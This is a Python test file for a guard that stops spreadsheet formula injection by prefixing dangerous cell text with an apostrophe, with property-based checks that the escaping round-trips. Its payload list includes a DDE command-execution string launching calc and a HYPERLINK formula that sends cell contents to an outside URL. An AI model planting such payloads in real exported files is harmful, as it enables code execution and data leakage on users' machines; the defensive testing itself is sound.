"""Cells of a table: no spreadsheet runs one, and what was said comes back as it was."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from equipoise.authored.formula_guard import guarded, unguarded

FORMULAS = ['=HYPERLINK("http://example.org?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_stays_text(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "because", "0.1", "'tis so", "a=b", "2021-04-01", "sha256:0f"])
def test_other_text_is_left_alone(text):
    assert guarded(text) == text


@given(st.text(alphabet="'=+-@\t\r\n＝ab ", max_size=8))
@example("'=1")
@example("''=1")
def test_reading_takes_off_exactly_what_writing_put_on(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple("=+-@\t\r\n＝")
